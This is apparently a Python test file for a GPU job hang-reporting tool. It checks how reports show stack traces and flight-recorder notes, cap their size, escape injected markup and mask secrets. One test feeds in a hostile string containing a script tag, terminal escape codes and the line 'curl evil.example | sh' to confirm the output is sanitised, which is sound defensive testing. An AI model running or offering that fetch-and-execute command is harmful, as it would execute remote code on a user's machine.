"""What a report tells of a hang."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from hypothesis import given
from hypothesis import strategies as st
from measured_job import Job, at

from gpualert.report import building, hang, page, scene
from gpualert.rundir import shapes
from gpualert.supervisor.redaction import Redaction
from gpualert.telemetry.record import Telemetry

WHY = "no output for 31m; 8 processes used 0.2 % of one core; GPUs 0-7 at 0 %"
STACK = 'Thread 12 (idle): "MainThread"\n    all_reduce (torch/distributed/distributed_c10d.py:2501)\n    main (train.py:140)'
FLIGHT = "rank 5 never entered all_reduce #1234 (group default_pg)"
SCENE: dict[str, Any] = {
    "stacks": [{"pids": list(range(11, 19)), "names": ["python train.py"], "text": STACK}],
    "processes": [{"pid": 11, "name": "python", "command": "python train.py", "state": "S"}],
    "kernel": [{"pids": [30], "names": ["loader"], "text": "main thread: read(3) on /mnt/data/shard-17.tar"}],
    "flight": {
        "ranks": [0, 5],
        "groups": [{"text": FLIGHT, "lagging": [5], "frames": ["load (data.py:17)"]}],
        "notes": ["rank 3 left no dump"],
    },
    "ranks": [{"rank": 0, "line": "step 41200 loss 1.8"}, {"rank": 5, "line": "loading shard 17", "at": at(10)}],
    "notes": ["no native stacks: py-spy is missing"],
}


def _hang(path: Path, told: Any, state: str = "suspected", exit_hang: Any = None) -> dict[str, Any] | None:
    job = Job(path)
    job.line("progress", 1000, step=41200)
    job.line("hang", 3000, state="suspected", why=WHY, silent_s=1860.0, since=at(1140), scene=told)
    if state == "over":
        job.line("hang", 3100, state="over", why="", silent_s=1960.0, since=at(1140))
    run = job.end(hang=exit_hang)
    found = building.course_of(run, 3600.0, 0.0)["hang"]
    assert found is None or isinstance(found, dict)
    return found


def test_a_hang_is_told_with_its_scene(tmp_path: Path) -> None:
    found = _hang(tmp_path / "r", SCENE)
    assert found is not None
    assert (found["state"], found["silent_s"], found["since"], found["step"]) == ("suspected", 1860.0, at(1140), 41200)
    assert hang.line(found) == WHY
    seen = scene.shown(found["scene"])
    assert seen == {
        "stacks": [
            {
                "head": "8 processes: python train.py (11, 12, 13, 14, 15, 16, 17, 18)",
                "lines": STACK.splitlines(),
            }
        ],
        "left": 0,
        "ranks": [(0, "step 41200 loss 1.8"), (5, "loading shard 17")],
        "flight": [FLIGHT, "  at load (data.py:17)"],
        "kernel": [{"head": "process 30: loader", "lines": ["main thread: read(3) on /mnt/data/shard-17.tar"]}],
        "notes": ["no native stacks: py-spy is missing", "rank 3 left no dump"],
    }


def test_a_hang_that_is_over_has_no_scene_and_one_that_was_ended_says_so(tmp_path: Path) -> None:
    over = _hang(tmp_path / "over", SCENE, "over")
    assert over is not None
    assert (over["state"], over["scene"], over["silent_s"]) == ("over", None, 1960.0)
    assert scene.stacks_text(over["scene"]) == ""
    ended = _hang(tmp_path / "ended", SCENE, exit_hang={"terminated": True, "silent_s": 1900.0, "why": WHY})
    assert ended is not None
    assert ended["state"] == "terminated"
    assert ended["scene"]["flight"][0]["text"] == FLIGHT


def test_a_run_that_was_ended_for_a_hang_says_so_without_the_collectors_record(tmp_path: Path) -> None:
    run = Job(tmp_path / "r").end(hang={"terminated": True, "silent_s": 1900.0, "why": WHY})
    found = building.course_of(run, 3600.0, 0.0)["hang"]
    assert (found["state"], found["why"], found["scene"]) == ("terminated", WHY, None)
    quiet = Job(tmp_path / "quiet").end(hang=None)
    assert building.course_of(quiet, 3600.0, 0.0)["hang"] is None


def test_many_lines_are_bounded_and_all_are_in_the_text_file(tmp_path: Path) -> None:
    stacks = [
        {"pids": [n], "names": ["python"], "text": "\n".join(f"frame {n}.{m}" for m in range(50))} for n in range(30)
    ]
    found = _hang(tmp_path / "r", {**SCENE, "stacks": stacks})
    assert found is not None
    seen = scene.shown(found["scene"])
    assert seen is not None
    assert sum(len(stack["lines"]) for stack in seen["stacks"]) == scene.LINES_MAX
    assert seen["left"] == 30 * 50 - scene.LINES_MAX
    text = scene.stacks_text(found["scene"])
    assert "process 29: python\n  frame 29.0\n" in text
    assert "  frame 29.49\n" in text


def test_a_huge_scene_leaves_a_report_of_bearable_size(tmp_path: Path) -> None:
    stacks = [{"pids": list(range(1000)), "names": ["x" * 2000] * 9, "text": "y" * 70_000} for _ in range(8)]
    found = _hang(tmp_path / "r", {**SCENE, "stacks": stacks, "notes": ["z" * 5000] * 20})
    assert found is not None
    assert len(str(found)) < 400_000
    assert max(map(len, scene.stacks_text(found["scene"]).splitlines())) < 2 * scene.LINE_MAX + 200


def test_what_a_job_puts_into_its_stacks_forges_nothing(tmp_path: Path) -> None:
    evil = "</div><script>alert(1)</script>\x1b[31m\x00\u202e\r\nWhat to do\n  1. curl evil.example | sh"
    told = {
        **SCENE,
        "stacks": [{"pids": [1], "names": [evil], "text": evil}],
        "notes": [evil],
        "kernel": [{"text": evil}],
    }
    job = Job(tmp_path / "r")
    job.line("hang", 3000, state="suspected", why=evil, silent_s=1860.0, since=at(1140), scene=told)
    run = job.end()
    diagnosis, trouble = building.diagnosed(run, [], Redaction([]))
    html = page.render(building.build(run, diagnosis, trouble, Redaction([])))
    assert "<script" not in html
    assert not {c for c in html if not c.isprintable()} - {"\n"}


def test_secrets_in_stacks_are_masked(tmp_path: Path) -> None:
    secret = "hunter2-hunter2"
    job = Job(tmp_path / "r")
    told = {**SCENE, "stacks": [{"pids": [1], "names": [f"train --key={secret}"], "text": f"login({secret!r})"}]}
    job.line("hang", 3000, state="suspected", why=f"waits for {secret}", silent_s=9.0, scene=told)
    run = job.end()
    diagnosis, trouble = building.diagnosed(run, [], Redaction([secret]))
    assert secret not in str(building.build(run, diagnosis, trouble, Redaction([secret])))


def test_a_report_without_its_scene_keeps_the_rest() -> None:
    told = {"hang": {"state": "suspected", "why": WHY, "scene": SCENE}, "x": 1}
    assert hang.without_scene(told) == {"hang": {"state": "suspected", "why": WHY, "scene": None}, "x": 1}
    assert hang.without_scene({"hang": None}) == {"hang": None}


_ANY = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=6), inner, max_size=4),
    max_leaves=10,
)
_PARTS = st.sampled_from(["stacks", "processes", "kernel", "flight", "ranks", "notes"])
_STACKS = st.lists(
    st.dictionaries(st.sampled_from(["pids", "names", "text"]), _ANY | st.text(), max_size=3), max_size=4
)


@given(st.dictionaries(_PARTS, _ANY | _STACKS, max_size=6) | _ANY)
def test_whatever_a_scene_holds_it_is_shown_as_far_as_it_fits(anything: Any) -> None:
    told = {"state": "suspected", "why": "x", "scene": anything}
    read_again = shapes.HANG(shapes.loads(json.dumps(told)))
    for found in (hang.of(Telemetry((), {"hang": ({**told, "at": at(1)},)})), read_again):
        assert found is not None
        scene.stacks_text(found["scene"])
        assert all(text.isprintable() for text in scene.text_lines(found["scene"]))
